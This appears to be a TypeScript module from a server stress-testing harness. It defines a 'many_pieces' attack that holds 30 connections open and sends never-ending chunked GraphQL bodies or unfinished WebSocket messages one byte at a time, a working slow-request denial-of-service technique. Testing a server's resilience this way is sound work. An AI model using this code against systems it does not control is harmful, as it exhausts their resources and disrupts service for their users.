import type { Attack } from '../attack.ts';
import { openWebSocket, swarm } from './swarm.ts';

const CONNECTIONS = 30;
const PIECES_OF_BODY = 100_000;
const PIECES_OF_MESSAGE = 16_000;
const CHUNKED =
  'POST /graphql HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n';
/** Pieces of one byte of a WebSocket message that never ends: the first, and each that follows. */
const FIRST_PIECE = Buffer.from([0x01, 0x81, 0, 0, 0, 0, 0x61]);
const NEXT_PIECE = Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0x61]);

/** Sends bodies and messages byte by byte, and never the end of them. */
export const manyPieces: Attack = {
  name: 'many_pieces',
  run: (target, run) => {
    const body = Buffer.from('1\r\na\r\n'.repeat(PIECES_OF_BODY));
    const message = Buffer.concat([FIRST_PIECE, ...Array(PIECES_OF_MESSAGE).fill(NEXT_PIECE)]);
    return swarm(target, run, CONNECTIONS, (socket) => {
      if (run.random() < 0.5) {
        socket.write(CHUNKED);
        socket.write(body);
        return;
      }
      openWebSocket(socket);
      socket.once('data', () => socket.write(message));
    });
  },
};
